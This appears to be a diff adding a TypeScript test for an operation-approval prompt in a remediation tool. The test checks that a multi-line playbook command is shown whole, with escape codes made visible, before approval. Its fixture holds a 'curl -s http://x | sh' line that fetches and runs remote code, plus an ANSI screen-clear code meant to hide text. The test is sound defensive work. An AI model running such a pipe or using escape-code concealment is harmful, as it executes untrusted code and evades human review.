@@ -29,6 +29,14 @@ const CONNECTION: Finding['subject'] = {
   process: null,
   isNamedOnly: false,
 };
+const RUN: OperationTarget = {
+  ...{
+    kind: 'run-command',
+    command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
+  },
+  ...{ environment: {}, secretNames: [], workingFolder: null, timeoutMs: 1000, risk: 'reversible' },
+  ...{ verify: null, undo: null },
+};
 const MOVE: OperationTarget = { kind: 'quarantine-file', file: makeFile('/etc/cron.d/x') };
 
 const script = (plan: readonly OperationTarget[], details: Partial<Script> = {}): Script => ({
@@ -138,6 +146,15 @@ describe('a step', () => {
     await talk.until('Every step is finished');
     expect(handle.commands[0]).toMatchObject({ kind: 'approve-plan', how: 'word' });
     talk.end();
+    await talk.result;
+  });
+
+  test('that runs a command of the playbook shows all of it before it is approved', async () => {
+    const { handle, talk } = begin(script([RUN]));
+    expect(await talk.answer('q')).toContain(
+      '  it runs:\n    first line\n    curl -s http://x | sh #\\x1b[2J\n    \n     last line\n',
+    );
+    expect(handle.commands).toEqual([]);
     await talk.result;
   });
 
